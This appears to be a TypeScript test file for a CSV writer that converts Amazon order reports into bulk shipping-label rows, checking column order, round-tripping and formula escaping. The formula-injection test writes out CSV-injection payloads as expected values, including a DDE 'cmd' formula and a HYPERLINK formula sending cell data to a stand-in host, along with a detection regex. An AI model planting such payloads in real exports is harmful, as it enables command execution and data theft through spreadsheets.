import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { BULK_CSV_COLUMNS, type BulkCsvRow } from './constants';
import { convertOrders } from './convert-orders';
import { toCsv } from './csv';
import { parseAmazonReport } from './parse-report';
import { fixtureText } from './testing/fixtures';

const sender = {
  name: 'Shop',
  street1: '1 Main St',
  city: 'Reno',
  state: 'NV',
  zip: '89501',
  phone: '+1 775-555-0100',
};
const box = { weight: 1, length: 2, width: 3, height: 4 };

function readCsv(csv: string): string[][] {
  const parsed = Papa.parse<string[]>(csv, { skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

describe('toCsv', () => {
  const { rows } = parseAmazonReport(fixtureText('unshipped-orders.txt'));
  const converted = convertOrders(rows, {
    sender,
    dimensions: { 'WIDGET-BLUE-12': box, 'MUG-CER-11OZ': box, 'TSHIRT-M-BLK': box },
  }).rows;

  it('writes the header in the exact bulk column order', () => {
    const csv = toCsv(converted);
    expect(csv.split('\r\n')[0]).toBe(
      'fromName,fromCompany,fromStreet1,fromStreet2,fromCity,fromState,fromZip,fromPhone,toName,toCompany,toStreet1,' +
        'toStreet2,toCity,toState,toZip,toPhone,weight,length,width,height,description,orderNumber,sku,productName,reference',
    );
    expect(toCsv([])).toBe(BULK_CSV_COLUMNS.join(','));
  });

  it('round-trips every row, unicode, commas and quotes included', () => {
    const [header, ...lines] = readCsv(toCsv(converted));
    expect(header).toEqual([...BULK_CSV_COLUMNS]);
    const back = lines.map((cells) => Object.fromEntries(BULK_CSV_COLUMNS.map((column, i) => [column, cells[i]])));
    expect(back).toEqual(converted);
    expect(back[1]).toMatchObject({ toName: '山田太郎', description: 'Ceramic Mug, 11oz "Classic"', toZip: '02134' });
  });

  it('neutralises formula cells from a hostile report but keeps phone numbers usable', () => {
    const report = parseAmazonReport(fixtureText('formula-injection.txt')).rows;
    const hostile = convertOrders(report, { sender, dimensions: { 'EVIL-1': box, '=EVIL-2': box } }).rows;
    expect(hostile).toHaveLength(2);
    const [, first, second] = readCsv(toCsv(hostile));
    const cell = (line: string[] | undefined, column: (typeof BULK_CSV_COLUMNS)[number]): string | undefined =>
      line?.[BULK_CSV_COLUMNS.indexOf(column)];

    expect(cell(first, 'toName')).toBe("'=cmd|' /C calc'!A0");
    expect(cell(first, 'description')).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"Click")');
    expect(cell(first, 'toStreet1')).toBe("'@SUM(1+1)");
    expect(cell(first, 'toStreet2')).toBe("'-2+3, +A1");
    expect(cell(first, 'toPhone')).toBe('+1 206-555-0100');
    expect(cell(first, 'fromPhone')).toBe('+1 775-555-0100');
    expect(cell(second, 'sku')).toBe("'=EVIL-2");
    expect(cell(second, 'productName')).toBe("'-Negative Widget");

    expect(first).toHaveLength(BULK_CSV_COLUMNS.length);
    const dangerous = [...(first ?? []), ...(second ?? [])].filter(
      (value) => /^[=+\-@\t\r]/.test(value) && !/^[+-]?[( ]*\d[\d ().-]*$/.test(value),
    );
    expect(dangerous).toEqual([]);
  });

  it('keeps the in-memory rows untouched (escaping happens only in the file)', () => {
    const row = { ...converted[0], toName: '=1+1' } as BulkCsvRow;
    toCsv([row]);
    expect(row.toName).toBe('=1+1');
  });
});
